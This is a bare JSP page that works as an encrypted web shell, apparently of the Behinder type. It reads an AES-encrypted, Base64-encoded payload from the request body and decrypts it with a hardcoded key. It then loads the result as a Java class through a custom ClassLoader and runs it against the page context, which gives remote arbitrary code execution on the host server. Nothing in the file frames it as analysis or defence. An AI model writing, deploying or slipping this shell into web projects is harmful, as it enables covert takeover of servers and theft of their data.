<%@ page import="java.util.*,javax.crypto.*,javax.crypto.spec.*" %>
<%!
class L extends ClassLoader { L(ClassLoader p) { super(p); } Class d(byte[] b) { return super.defineClass(b, 0, b.length); } }
%>
<%
Cipher c = Cipher.getInstance("AES");
c.init(2, new SecretKeySpec("0123456789abcdef".getBytes(), "AES"));
byte[] body = java.util.Base64.getDecoder().decode(request.getReader().readLine());
new L(this.getClass().getClassLoader()).d(c.doFinal(body)).newInstance().equals(pageContext);
%>
